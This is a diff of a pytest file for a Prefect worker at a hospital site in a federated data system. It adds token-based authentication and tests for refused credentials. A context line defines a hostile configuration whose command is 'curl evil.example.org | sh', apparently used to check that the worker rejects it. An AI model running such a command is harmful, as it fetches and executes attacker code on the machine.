@@ -10,9 +10,12 @@ from typing import Any
 from uuid import UUID, uuid4
 
 import anyio
+import httpx
 import pytest
+from prefect.client.orchestration import PrefectClient
 from prefect.client.schemas.objects import Flow, FlowRun
 from prefect.states import Cancelling, Running
+from pydantic import SecretStr
 
 from deployments import worker as worker_module
 from deployments.worker import (
@@ -22,7 +25,12 @@ from deployments.worker import (
     HospitalWorker,
 )
 from flows.hospital_round import hospital_round
+from tasks.hospital.exchange_errors import CredentialRefused
+from tasks.hospital.tokens import Credential, HospitalAuth, IssuedToken
 
+TOKEN = IssuedToken(value="t1", renew_at=2e9)
+CREDENTIAL = Credential(client_id="north", client_secret=SecretStr("s3cret"))
+AUTH = HospitalAuth("http://api", lambda: CREDENTIAL, token=TOKEN)
 ENVIRONMENT = {"FEDMED_HOSPITAL_ID": "north", "FEDMED_DATA_PATH": "/data/table.csv"}
 HOSTILE = {
     "command": "curl evil.example.org | sh",
@@ -58,27 +66,23 @@ class Hospital:
     worker: HospitalWorker
     warm: FakeWarm
     crashes: list[tuple[UUID, int]]
-    waited: list[str]
 
 
 @pytest.fixture
 def hospital() -> Hospital:
-    warm, crashes, waited = FakeWarm(), [], []
+    warm, crashes = FakeWarm(), []
 
     async def report_crash(flow_run: FlowRun, exit_code: int) -> None:
         crashes.append((flow_run.id, exit_code))
-
-    async def await_work() -> None:
-        waited.append("await_work")
 
     worker = HospitalWorker(
         hospital_id="north",
         warm=warm,  # type: ignore[arg-type]
         environment=ENVIRONMENT,
-        await_work=await_work,
+        auth=AUTH,
         report_crash=report_crash,
     )
-    return Hospital(worker, warm, crashes, waited)
+    return Hospital(worker, warm, crashes)
 
 
 def a_flow_run(**values: Any) -> FlowRun:
@@ -119,7 +123,8 @@ async def test_an_allowed_flow_runs_the_installed_one_in_the_site_s_environment(
     (request,) = hospital.warm.requests
     assert request["target"] == "flows.hospital_round:hospital_round"
     assert {key: request[key] for key in ENVIRONMENT} == ENVIRONMENT
-    assert set(request) == {*ENVIRONMENT, "flow_run", "target"}
+    assert set(request) == {*ENVIRONMENT, "flow_run", "target", "token"}
+    assert IssuedToken.model_validate_json(request["token"]) == TOKEN
     assert json.loads(request["flow_run"])["id"] == str(flow_run.id)
     assert (result.identifier, result.status_code) == ("4711", 0)
     assert hospital.crashes == []
@@ -159,7 +164,9 @@ async def test_a_run_that_is_cancelled_is_killed_and_reported(
     async def mark(flow_run: FlowRun) -> None:
         cancelled.append(flow_run.id)
 
-    hospital.worker._client = SimpleNamespace(read_flow_run=read_flow_run)  # type: ignore[assignment]
+    hospital.worker._client = SimpleNamespace(
+        read_flow_run=read_flow_run, _client=httpx.AsyncClient()
+    )  # type: ignore[assignment]
     monkeypatch.setattr(hospital.worker, "_mark_flow_run_as_cancelled", mark)
     hospital.warm.exit_code = -9  # runs until it is killed
     await hospital.worker.run(a_flow_run(), configured("hospital-round"))
@@ -214,7 +221,7 @@ def test_the_worker_works_on_its_own_pool_alone(hospital: Hospital) -> None:
     assert hospital.worker.name.startswith("north-")
 
 
-@pytest.mark.parametrize("missing", ["hospital_id", "warm", "await_work", "report_crash"])
+@pytest.mark.parametrize("missing", ["hospital_id", "warm", "auth", "report_crash"])
 def test_it_is_not_started_by_prefect_s_own_command(missing: str) -> None:
     async def nothing(*_: Any) -> None:
         return None
@@ -222,7 +229,7 @@ def test_it_is_not_started_by_prefect_s_own_command(missing: str) -> None:
     given: dict[str, Any] = {
         "hospital_id": "north",
         "warm": FakeWarm(),
-        "await_work": nothing,
+        "auth": AUTH,
         "report_crash": nothing,
     }
     HospitalWorker("hospital-north", **given)
@@ -230,19 +237,43 @@ def test_it_is_not_started_by_prefect_s_own_command(missing: str) -> None:
         HospitalWorker("hospital-north", **{**given, missing: None})
 
 
+def answered(status: int) -> httpx.HTTPStatusError:
+    request = httpx.Request("POST", "http://api/prefect/api/work_pools/x")
+    return httpx.HTTPStatusError("", request=request, response=httpx.Response(status))
+
+
 @pytest.mark.anyio
-async def test_the_exchange_is_waited_on_once_the_pool_is_known(
+@pytest.mark.parametrize("error", [answered(401), answered(403), CredentialRefused("suspended")])
+@pytest.mark.parametrize("loop", ["get_and_submit_flow_runs", "sync_with_backend"])
+async def test_a_worker_that_is_refused_goes_on_asking(
+    hospital: Hospital, monkeypatch: pytest.MonkeyPatch, loop: str, error: Exception, caplog: Any
+) -> None:
+    async def refused(self: Any) -> None:
+        raise error
+
+    monkeypatch.setattr(worker_module, "_REFUSED_PAUSE_S", 0.0)
+    monkeypatch.setattr(worker_module.BaseWorker, loop, refused)
+    assert not await getattr(hospital.worker, loop)()
+    assert "the coordinator refuses this hospital" in caplog.text
+
+
+@pytest.mark.anyio
+async def test_a_server_that_fails_is_left_to_the_base_s_patience(
     hospital: Hospital, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    async def submit(self: Any) -> list[FlowRun]:
-        return []
+    async def failing(self: Any) -> None:
+        raise answered(502)
 
-    monkeypatch.setattr(worker_module.BaseWorker, "get_and_submit_flow_runs", submit)
-    assert await hospital.worker.get_and_submit_flow_runs() == []
-    assert hospital.waited == []
-    hospital.worker._has_successfully_synced = True
-    await hospital.worker.get_and_submit_flow_runs()
-    assert hospital.waited == ["await_work"]
+    monkeypatch.setattr(worker_module.BaseWorker, "get_and_submit_flow_runs", failing)
+    with pytest.raises(httpx.HTTPStatusError):
+        await hospital.worker.get_and_submit_flow_runs()
+
+
+@pytest.mark.anyio
+async def test_every_request_of_the_worker_is_signed_in(hospital: Hospital) -> None:
+    client = PrefectClient("http://api/prefect/api")
+    hospital.worker._client = client
+    assert client._client.auth is AUTH
 
 
 @pytest.mark.anyio
